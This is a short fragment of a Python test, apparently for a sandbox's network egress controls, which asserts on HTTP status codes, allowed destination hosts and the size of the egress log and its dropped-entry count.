    doc = hosts.run("hosts:allowed.test", PRELUDE + code, env=env, timeout=300)
    res = results(doc)
    assert res[0].startswith("HTTP/1.1 400") and res[1].startswith("HTTP/1.1 400") and res[2] == 200, res
    log = doc["network"]["egress"]
    assert [e["host"] for e in log if e["decision"] == "allowed"] == ["allowed.test"]
    assert len(log) == 2001 and doc["network"]["egress_dropped"] == 2102 - 2000, (len(log), doc["network"]["egress_dropped"])
